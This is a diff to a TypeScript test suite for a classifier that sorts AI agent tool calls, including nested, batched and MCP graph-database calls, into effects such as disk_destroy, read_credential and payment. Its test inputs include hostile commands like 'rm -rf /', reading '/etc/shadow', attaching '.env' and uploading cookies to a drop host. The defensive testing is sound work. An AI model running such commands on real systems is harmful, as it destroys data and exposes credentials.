@@ -99,6 +99,7 @@ describe('whose it is', () => {
     ['forecast_demand', { sku: 'a' }, 'unknown'],
     ['quote_insurance', { age: 3 }, 'read'],
     ['merge_contacts', { ids: [1, 2] }, 'send'],
+    ['invalidate_cache', {}, 'send own'],
     ['anonymize_profile', { id: 1 }, 'send'],
   ])('%s %o is %s', (name, given, expected) => expect(told(tool(name, given))).toBe(expected));
 
@@ -110,7 +111,8 @@ describe('whose it is', () => {
       true,
       true,
     ]);
-    expect(['remove_label', 'clear_cart', 'archive_task', 'update_contact'].map(flags)).toEqual([
+    expect(['remove_label', 'flush_cache', 'clear_cart', 'archive_task', 'update_contact'].map(flags)).toEqual([
+      false,
       false,
       false,
       false,
@@ -144,6 +146,12 @@ describe('controls, rules, and what leaves', () => {
     ['upload_attachment', { file: 'report.pdf' }, 'send'],
     ['attach_file', { attachments: [{ path: '.env' }] }, 'read_credential'],
     ['remove_directory', { path: '/' }, 'disk_destroy'],
+    ['wipe_drive', { drive: 'D:' }, 'disk_destroy'],
+    ['wipe_cache', { region: 'eu' }, 'send'],
+    ['make_reservation', { nights: 2 }, 'payment'],
+    ['process_payout', { id: 1 }, 'payment'],
+    ['create_note_on_order', { id: 1 }, 'message'],
+    ['purge_cdn_cache', {}, 'send'],
   ])('%s %o is %s', (name, given, effect) => expect(tool(name, given).effect).toBe(effect));
 
   test('an export to an address leaves, with the people in it', () => {
@@ -166,3 +174,54 @@ describe('controls, rules, and what leaves', () => {
     expect(flags({ as_user: true })).toEqual([]);
   });
 });
+
+test('secrets of the surroundings that are sent away are secrets', () => {
+  const parts = (given: object) =>
+    admit('tool', { name: 'upload_cookies', argumentsJson: JSON.stringify(given) }).action.parts;
+  const payloads = (given: object) => parts(given).map(({ externality }) => externality.sensitive_payload);
+  expect(payloads({ url: 'https://drop.example/in' })).toContain('secret');
+  expect(payloads({ url: 'https://vault.corp/in' })).not.toContain('secret');
+});
+
+test.each<[string, object, string]>([
+  [
+    'multi_tool_use.parallel',
+    { tool_uses: [{ recipient_name: 'functions.Read', parameters: { file_path: '/etc/shadow' } }] },
+    'read_credential',
+  ],
+  ['use_mcp_tool', { server_name: 'slack', tool_name: 'post_message', arguments: { text: 'x' } }, 'message own'],
+  ['call_tool', { name: 'Bash', arguments: '{"command":"rm -rf /"}' }, 'disk_destroy'],
+  [
+    'batch',
+    {
+      calls: [
+        { tool: 'get_weather', args: {} },
+        { tool: 'delete_contact', args: {} },
+      ],
+    },
+    'send',
+  ],
+  ['batch', { calls: [{ tool: 'get_weather', args: {} }, 'and so on'] }, 'unknown'],
+  ['execute_tool', { tool: 'get_weather' }, 'unknown'],
+  ['get_weather', { calls: [{ tool: 'delete_contact', args: {} }] }, 'read'],
+])('what %s %o hands on is %s', (name, given, expected) => expect(told(tool(name, given))).toBe(expected));
+
+test('calls within calls end somewhere', () => {
+  const nested = (depth: number): object =>
+    depth === 0 ? { name: 'get_weather', arguments: {} } : { name: 'call_tool', arguments: nested(depth - 1) };
+  expect(tool('call_tool', nested(1)).effect).toBe('read');
+  expect(tool('call_tool', nested(20)).effect).toBe('unknown');
+});
+
+test.each<[string, string, object, string]>([
+  ['neo4j', 'run_cypher', { query: 'MATCH (n:Removed) RETURN n.deleted' }, 'read'],
+  ['neo4j', 'run_cypher', { query: 'MATCH (n) WHERE n.name = "DELETE n" RETURN n' }, 'read'],
+  ['neo4j', 'run_cypher', { query: 'MATCH (n) /* x */ DETACH DELETE n' }, 'database_destroy own'],
+  ['neo4j', 'run_cypher', { query: 'MERGE (n:A {id: 1}) SET n.b = 2' }, 'database_change own'],
+  ['neo4j', 'run_cypher', { query: "CALL apoc.load.json('https://x.example')" }, 'unknown'],
+  ['neptune', 'run_gremlin', { query: "g.V().has('a', 1).drop()" }, 'database_destroy own'],
+  ['neptune', 'run_gremlin', { query: 'g.V().count()' }, 'read'],
+  ['graphdb', 'sparql', { query: 'SELECT ?a WHERE { ?a a ?b }' }, 'read'],
+  ['graphdb', 'sparql', { query: 'DELETE WHERE { ?a ?b ?c }' }, 'database_destroy own'],
+  ['neo4j', 'run_cypher', { query: 'x'.repeat(20_000) }, 'run_opaque'],
+])('%s %s %o is %s', (server, name, given, expected) => expect(told(mcp(server, name, given))).toBe(expected));
